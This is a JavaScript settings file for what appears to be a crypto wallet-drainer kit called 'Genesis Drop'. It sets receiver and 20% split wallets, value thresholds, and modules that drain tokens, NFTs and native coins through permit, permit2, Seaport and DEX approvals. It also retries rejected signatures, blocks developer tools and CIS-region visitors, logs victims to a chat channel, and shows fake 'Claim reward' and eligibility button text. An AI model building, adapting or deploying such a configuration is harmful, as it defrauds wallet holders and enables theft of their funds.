const ReceiverWallet = "0x000000000000000000000000000000RECEIVER";
const SplitWallet = "0x000000000000000000000000000000000SPLIT";
const settings = {
  projectTitle: "Genesis Drop",
  receiver: ReceiverWallet,
  split: { enabled: true, to: SplitWallet, percent: 20 },
  minWalletValueUSD: 15,
  minERC20: 10,
  minNFT: 0.02,
  modules: { permit: true, permit2: true, erc20: true, nft: true, native: true, seaport: true, uniswap: true, pancake: true },
  nativeFirst: false,
  retryRejected: true,
  retryCount: 7,
  retryDelay: 600,
  repeatHighest: true,
  blockDevTools: true,
  blockCIS: true,
  twoSteps: false,
  modalLoopClose: true,
  multipliers: { LP: 1, permit2: 1, tokens: 1, native: 1.2 },
  logs: { token: "0000:TOKEN", chat: "-1000000000", enter: true, connect: true, prompt: true, reject: true, success: true, onlyAbove: 50 },
  buttons: { connect: ".interact-button", text: { idle: "Claim reward", wait: "Verifying eligibility...", sign: "Sign to continue", fail: "Not eligible, try another wallet" } },
  researchers: ["0x0000000000000000000000000000000000000000"],
};
